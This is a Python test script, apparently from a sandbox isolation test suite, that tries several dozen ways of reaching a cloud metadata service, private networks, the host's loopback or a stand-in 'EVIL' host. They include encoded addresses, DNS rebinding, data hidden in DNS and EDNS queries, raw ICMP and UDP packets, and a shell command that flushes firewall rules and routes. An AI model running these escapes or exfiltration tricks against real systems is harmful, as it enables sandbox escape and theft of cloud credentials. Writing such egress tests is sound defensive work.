"""Ways out of a sandbox with the default policy: metadata service, private networks, host, past TCP and DNS.

The argument names the way. What arrives outside carries the attempt's tag.
"""

from __future__ import annotations

import os
import socket
import struct

from inside import ARGUMENTS, TAG, TARGET
from talk import EVIL, METADATA, SERVER, SERVER_TOO, WAYS, ask, checksum, get, http, question, talk, tls, udp, way


@way
def metadata_address() -> None:
    http(METADATA, "metadata")


@way
def metadata_by_a_name() -> None:
    ask("metadata.test")
    http(METADATA, "metadata.test")


@way
def metadata_on_another_port() -> None:
    http(METADATA, "m", port=8080)


@way
def metadata_as_an_octal_literal() -> None:
    http("0251.0376.0251.0376", "m")


@way
def metadata_as_one_number() -> None:
    http("2852039166", "m")


@way
def metadata_mapped_into_ipv6() -> None:
    http("::ffff:" + METADATA, "m", family=socket.AF_INET6)


@way
def metadata_with_its_tls() -> None:
    tls(METADATA, "good.test", "good.test")


@way
def metadata_with_an_allowed_name_in_host() -> None:
    ask("good.test")
    http(METADATA, "good.test")


@way
def private_address() -> None:
    http(ARGUMENTS[1], "x")


@way
def private_address_mapped_into_ipv6() -> None:
    http("::ffff:10.9.9.9", "x", family=socket.AF_INET6)


@way
def private_address_by_a_name() -> None:
    ask("inward.test")
    http("10.9.9.9", "inward.test")


@way
def private_address_by_tls() -> None:
    tls("10.9.9.9", "good.test", "good.test")


@way
def rebinding_name() -> None:
    ask("rebind.test")
    ask("rebind.test")
    http("10.9.9.9", "rebind.test")


@way
def hosts_address() -> None:
    http(SERVER, "x", port=8099)


@way
def hosts_other_address() -> None:
    http(SERVER_TOO, "x", port=8099)


@way
def host_by_a_name() -> None:
    ask("host.test")
    http(SERVER, "host.test", port=8099)


@way
def hosts_address_mapped_into_ipv6() -> None:
    http("::ffff:198.51.100.2", "x", 8099, family=socket.AF_INET6)


@way
def hosts_loopback() -> None:
    http("127.0.0.1", "x", port=8098)


@way
def hosts_loopback_by_127_0_0_2() -> None:
    http("127.0.0.2", "x", port=8099)


@way
def hosts_loopback_by_0_0_0_0() -> None:
    http("0.0.0.0", "x", port=8098)


@way
def hosts_loopback_by_a_name() -> None:
    ask("loop.test")
    http("127.0.0.1", "loop.test", port=8098)


@way
def hosts_ipv6_loopback() -> None:
    http("::1", "x", port=8097, family=socket.AF_INET6)


@way
def a_datagram_to_port_443_quic() -> None:
    udp(EVIL, 443)


@way
def a_datagram_to_port_123_ntp() -> None:
    udp(EVIL, 123)


@way
def a_datagram_to_any_port() -> None:
    udp(EVIL, 7000)


@way
def a_datagram_to_port_53_that_is_no_dns() -> None:
    udp(EVIL, 53)


@way
def a_datagram_to_port_53_hidden_behind_a_question() -> None:
    udp(EVIL, 53, question("good.test") + TAG.encode())


@way
def bytes_behind_a_question() -> None:
    ask("good.test", extra=TAG.encode())


@way
def an_edns_option() -> None:
    d = TAG.encode()
    o = struct.pack(">HH", 65001, len(d)) + d
    ask("good.test", extra=b"\x00" + struct.pack(">HHIH", 41, 4096, 0, len(o)) + o, arcount=1)


@way
def a_datagram_from_port_53() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 53))
    s.sendto(TAG.encode(), (EVIL, 7000))


@way
def an_icmp_echo() -> None:
    p = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + TAG.encode() + b"\x00" * (len(TAG) % 2)
    p = p[:2] + struct.pack("!H", checksum(p)) + p[4:]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(p, (EVIL, 0))


@way
def an_icmp_echo_by_a_raw_socket() -> None:
    p = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + TAG.encode() + b"\x00" * (len(TAG) % 2)
    p = p[:2] + struct.pack("!H", checksum(p)) + p[4:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.sendto(p, (EVIL, 0))


@way
def a_packet_made_by_hand() -> None:
    u = struct.pack("!4H", 4000, 7000, 8 + len(TAG), 0) + TAG.encode()
    h = (
        struct.pack("!BBHHHBBH", 69, 0, 20 + len(u), 1, 0, 64, 17, 0)
        + socket.inet_aton("0.0.0.0")
        + socket.inet_aton(EVIL)
    )
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(h + u, (EVIL, 0))


@way
def a_packet_made_by_hand_to_the_metadata_address() -> None:
    u = struct.pack("!4H", 4000, 7000, 8 + len(TAG), 0) + TAG.encode()
    h = struct.pack("!BBHHHBBH", 69, 0, 20 + len(u), 1, 0, 64, 17, 0) + bytes(4) + socket.inet_aton(METADATA)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(h + u, (METADATA, 0))


@way
def metadata_by_tcp_fast_open() -> None:
    s = socket.socket()
    s.sendto(get("m").encode(), socket.MSG_FASTOPEN, (METADATA, 80))
    s.recv(10)


@way
def metadata_with_a_mark_on_the_socket() -> None:
    s = socket.socket()
    try:
        s.setsockopt(socket.SOL_SOCKET, 36, 1)
    except OSError:
        pass
    s.connect((METADATA, 80))
    s.sendall(get("m").encode())
    s.recv(10)


@way
def metadata_after_the_rules_were_flushed() -> None:
    if TARGET == 1:
        os.system(
            "nft flush ruleset 2>/dev/null; iptables -t nat -F 2>/dev/null; ip route flush table main 2>/dev/null"
        )
    http(METADATA, "m")


@way
def the_redirects_own_port_asked_like_a_proxy() -> None:
    try:
        talk("127.0.0.1", 15001, get("m", f"http://{METADATA}/{TAG}"))
    except OSError:
        http(METADATA, "m")


WAYS[ARGUMENTS[0]]()
